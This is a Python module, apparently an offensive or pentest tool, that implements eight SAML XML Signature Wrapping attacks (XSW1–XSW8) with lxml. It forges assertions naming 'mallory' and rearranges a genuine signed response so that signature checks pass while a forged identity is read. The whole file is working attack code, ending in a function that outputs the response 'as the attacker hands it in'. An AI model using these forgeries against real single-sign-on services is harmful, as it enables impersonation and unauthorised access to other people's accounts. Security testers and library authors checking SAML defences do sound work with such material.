"""Signature wrapping: a genuine signed assertion is kept where its signature verifies, and a forged one is put where a
careless reader looks.

Source: https://www.usenix.org/conference/usenixsecurity12/technical-sessions/presentation/somorovsky
"""

from collections.abc import Callable, Mapping
from copy import deepcopy
from typing import Final

from lxml import etree

SAML: Final = "{urn:oasis:names:tc:SAML:2.0:assertion}"
PROTOCOL: Final = "{urn:oasis:names:tc:SAML:2.0:protocol}"
DS: Final = "{http://www.w3.org/2000/09/xmldsig#}"

Node = etree._Element


def signature_of(parent: Node) -> Node:
    found = parent.find(f"{DS}Signature")
    assert found is not None
    return found


def assertion_of(response: Node) -> Node:
    found = response.find(f"{SAML}Assertion")
    assert found is not None
    return found


def forge(genuine: Node) -> Node:
    """A copy without signatures, under another id, that is about somebody else."""
    forged = deepcopy(genuine)
    for signature in list(forged.iter(f"{DS}Signature")):
        above = signature.getparent()
        assert above is not None
        above.remove(signature)
    for name in forged.iter(f"{SAML}NameID"):
        name.text = "mallory"
    forged.set("ID", "_evil")
    return forged


def response_in_its_signature(root: Node) -> Node:
    """XSW1: the forged response carries the signature, and in it the genuine response."""
    forged = forge(root)
    signature = deepcopy(signature_of(root))
    original = deepcopy(root)
    original.remove(signature_of(original))
    signature.append(original)
    forged.insert(1, signature)
    return forged


def response_beside_its_signature(root: Node) -> Node:
    """XSW2: the forged response carries the signature, and before it the genuine response."""
    forged = forge(root)
    original = deepcopy(root)
    signature = signature_of(original)
    original.remove(signature)
    forged.insert(1, original)
    forged.insert(2, signature)
    return forged


def forged_assertion_first(root: Node) -> Node:
    """XSW3: two assertions, the forged one first."""
    genuine = assertion_of(root)
    root.insert(root.index(genuine), forge(genuine))
    return root


def genuine_assertion_within(root: Node) -> Node:
    """XSW4: the genuine assertion in the forged one."""
    genuine = assertion_of(root)
    forged = forge(genuine)
    root.replace(genuine, forged)
    forged.append(genuine)
    return root


def signature_on_the_forged(root: Node) -> Node:
    """XSW5: the forged assertion has the signature, the genuine one, bare, comes last."""
    genuine = assertion_of(root)
    forged = forge(genuine)
    signature = signature_of(genuine)
    root.replace(genuine, forged)
    genuine.remove(signature)
    forged.insert(1, signature)
    root.append(genuine)
    return root


def genuine_in_the_signature(root: Node) -> Node:
    """XSW6: the forged assertion has the signature, and in that is the genuine one."""
    genuine = assertion_of(root)
    forged = forge(genuine)
    signature = signature_of(genuine)
    root.replace(genuine, forged)
    genuine.remove(signature)
    signature.append(genuine)
    forged.insert(1, signature)
    return root


def forged_in_extensions(root: Node) -> Node:
    """XSW7: the forged assertion in an element where anything goes, before the genuine one."""
    genuine = assertion_of(root)
    extensions = etree.Element(f"{PROTOCOL}Extensions")
    extensions.append(forge(genuine))
    root.insert(root.index(genuine), extensions)
    return root


def genuine_in_an_object(root: Node) -> Node:
    """XSW8: the forged assertion has the signature, and in an object of that is the genuine one."""
    genuine = assertion_of(root)
    forged = forge(genuine)
    signature = signature_of(genuine)
    root.replace(genuine, forged)
    genuine.remove(signature)
    wrapper = etree.SubElement(signature, f"{DS}Object")
    wrapper.append(genuine)
    forged.insert(1, signature)
    return root


# name -> (what must have been signed, the attack)
ATTACKS: Final[Mapping[str, tuple[str, Callable[[Node], Node]]]] = {
    "XSW1": ("response", response_in_its_signature),
    "XSW2": ("response", response_beside_its_signature),
    "XSW3": ("assertion", forged_assertion_first),
    "XSW4": ("assertion", genuine_assertion_within),
    "XSW5": ("assertion", signature_on_the_forged),
    "XSW6": ("assertion", genuine_in_the_signature),
    "XSW7": ("assertion", forged_in_extensions),
    "XSW8": ("assertion", genuine_in_an_object),
}


def wrap(attack: str, response: str) -> bytes:
    """The response as the attacker hands it in."""
    return etree.tostring(ATTACKS[attack][1](etree.fromstring(response.encode())))
